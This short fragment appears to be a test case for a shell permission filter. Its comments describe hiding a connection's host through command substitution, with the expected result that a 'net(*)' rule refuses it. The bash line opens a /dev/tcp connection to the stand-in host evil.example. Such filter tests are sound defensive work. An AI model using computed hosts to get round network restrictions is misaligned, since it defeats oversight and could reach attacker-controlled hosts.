# Trick: the host of the connection is computed.
# Refused: net(*)
cat < "/dev/tcp/$(echo evil).example/80"
